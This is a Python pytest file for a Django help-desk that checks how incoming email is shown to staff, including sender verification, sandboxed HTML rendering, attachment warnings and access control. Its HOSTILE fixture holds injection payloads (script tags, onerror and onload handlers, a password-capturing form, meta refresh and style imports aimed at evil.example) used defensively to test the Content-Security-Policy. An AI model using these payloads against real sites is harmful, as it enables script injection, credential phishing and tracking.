"""Mail at the desk over HTTP: how letters show, how they are answered, and what an outsider never gets."""

from __future__ import annotations

from typing import Any

import pytest
from django.test import Client

from aspa.core.conversations.models import Attachment, Conversation, Message
from aspa.core.inboxes.models import Inbox
from aspa.kit import clock
from tests.cast import Cast
from tests.journeys.test_desk_pages import signed_in
from tests.letters import DEES, OURS, letter, mail_inbox, thread

HOSTILE = """
<script>parent.document.title = "taken"</script><img src=x onerror="parent.document.title='taken'">
<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">
<form action="https://evil.example/"><input name=password><button>Go</button></form>
<iframe src="https://evil.example/"></iframe><svg onload="parent.document.title='taken'"></svg>
<style>body { background: url(https://evil.example/css.png) } @import "https://evil.example/a.css";</style>
<img data-remote-src="https://evil.example/pixel.png">
"""


@pytest.fixture
def mail(cast: Cast) -> Inbox:
    return mail_inbox(cast)


@pytest.fixture
def parcel(cast: Cast, mail: Inbox) -> Conversation:
    return thread(cast, mail)


def page_of(client: Client, conversation: Conversation) -> str:
    return client.get(f"/desk/conversations/{conversation.pk}/").content.decode()


def test_a_letter_tells_who_wrote_to_whom(cast: Cast, mail: Inbox, parcel: Conversation) -> None:
    letter(parcel, mail, "Where is it?", cc=[["gran@customer.example", "Gran"]], verdict="pass", spf="pass")
    page = page_of(signed_in(cast.ben), parcel)
    assert DEES in page
    assert OURS in page
    assert "Gran &lt;gran@customer.example&gt;" in page
    assert "Sender verified" in page
    assert "SPF pass" in page


def test_a_forged_sender_is_told_loudly(cast: Cast, mail: Inbox, parcel: Conversation) -> None:
    letter(parcel, mail, "Send me the money", verdict="fail")
    assert f"This may not be from {DEES}." in page_of(signed_in(cast.ben), parcel)


def test_a_changed_subject_shows_and_a_mere_answer_doesnt(cast: Cast, mail: Inbox, parcel: Conversation) -> None:
    letter(parcel, mail, "Again", subject="VS: Re: My parcel")
    assert "Subject: " not in page_of(signed_in(cast.ben), parcel)
    letter(parcel, mail, "Another matter", subject="My refund")
    assert "Subject: My refund" in page_of(signed_in(cast.ben), parcel)


def test_what_was_folded_comes_when_asked_for(cast: Cast, mail: Inbox, parcel: Conversation) -> None:
    message = letter(parcel, mail, "Where is it?", rest="On Monday you wrote: we sent it")
    client = signed_in(cast.ben)
    assert "On Monday you wrote" not in page_of(client, parcel)
    assert "On Monday you wrote" in client.get(f"/desk/messages/{message.pk}/rest").content.decode()


def test_a_letter_with_more_than_words_is_shown_as_it_was_sent(cast: Cast, mail: Inbox, parcel: Conversation) -> None:
    plain = letter(parcel, mail, "Hello", html="<div>Hello</div>")
    rich = letter(parcel, mail, "Order 12", html="<table><tr><td>Order 12</td></tr></table>")
    page = page_of(signed_in(cast.ben), parcel)
    assert f'src="/desk/messages/{rich.pk}/html"' in page
    assert 'data-shown="sent" hidden' in page.split(f'id="m-{plain.pk}"')[1].split("</article>")[0]
    assert 'data-shown="sent" >' in page.split(f'id="m-{rich.pk}"')[1].split("</article>")[0]


def test_the_sheet_can_do_nothing(cast: Cast, mail: Inbox, parcel: Conversation) -> None:
    message = letter(parcel, mail, "Hi", html=HOSTILE)
    answer = signed_in(cast.ben).get(f"/desk/messages/{message.pk}/html")
    policy = answer["Content-Security-Policy"]
    assert "default-src 'none'" in policy
    assert "allow-scripts" not in policy
    assert "https:" not in policy
    assert answer["X-Frame-Options"] == "SAMEORIGIN"
    asked = signed_in(cast.ben).get(f"/desk/messages/{message.pk}/html?pictures=1")
    assert "img-src 'self' data: https:;" in asked["Content-Security-Policy"]
    assert ' src="https://evil.example/pixel.png"' in asked.content.decode()


def test_pictures_that_came_along_stand_in_their_place(cast: Cast, mail: Inbox, parcel: Conversation) -> None:
    message = letter(parcel, mail, "Look", html='<img src="cid:photo@1"><a href="#">x</a>')
    photo = Attachment.objects.create(
        message=message, inbox=mail, content_id="photo@1", is_inline=True, name="photo.png", content_type="image/png",
        size=1, width=1, height=1, file="attachments/photo.png", created_at=clock.now(),
    )  # fmt: skip
    Message.objects.filter(pk=message.pk).update(has_attachments=True)
    client = signed_in(cast.ben)
    sheet = client.get(f"/desk/messages/{message.pk}/html").content.decode()
    assert f'src="/files/{photo.public_id}/photo.png"' in sheet
    assert 'class="file picture"' not in page_of(client, parcel)


def test_a_risky_file_is_marked(cast: Cast, mail: Inbox, parcel: Conversation) -> None:
    message = letter(parcel, mail, "Open it")
    Attachment.objects.create(
        message=message, inbox=mail, name="invoice.pdf.exe", content_type="application/octet-stream", size=1,
        file="attachments/x", created_at=clock.now(),
    )  # fmt: skip
    Message.objects.filter(pk=message.pk).update(has_attachments=True)
    assert "Can carry a program" in page_of(signed_in(cast.ben), parcel)


def test_the_original_is_a_download(cast: Cast, mail: Inbox, parcel: Conversation) -> None:
    message = letter(parcel, mail, "Hi", raw=b"From: dee\r\n\r\n<script>alert(1)</script>")
    answer = signed_in(cast.ben).get(f"/desk/messages/{message.pk}/original")
    assert answer["Content-Disposition"].startswith("attachment; ")
    assert answer["Content-Type"] == "application/octet-stream"
    assert b"<script>" in b"".join(answer)  # type: ignore[arg-type]


@pytest.mark.parametrize("part", ["html", "html?pictures=1", "html?rest=1", "rest", "original"])
def test_an_outsider_reads_no_letter(cast: Cast, mail: Inbox, parcel: Conversation, part: str) -> None:
    message = letter(parcel, mail, "Hi", html="<b>Hi</b>", rest="x", rest_html="<b>x</b>", raw=b"From: dee\r\n\r\nHi")
    assert signed_in(cast.ben).get(f"/desk/messages/{message.pk}/{part}").status_code == 200
    assert signed_in(cast.cy).get(f"/desk/messages/{message.pk}/{part}").status_code == 404
    assert Client().get(f"/desk/messages/{message.pk}/{part}").status_code == 302


def test_letters_cost_one_query_however_many(
    cast: Cast, mail: Inbox, parcel: Conversation, django_assert_max_num_queries: Any
) -> None:
    for number in range(12):
        letter(parcel, mail, f"Letter {number}", html="<b>x</b>" * 50)
    client = signed_in(cast.ben)
    client.get(f"/desk/conversations/{parcel.pk}/")
    with django_assert_max_num_queries(8):
        client.get(f"/desk/conversations/{parcel.pk}/messages")
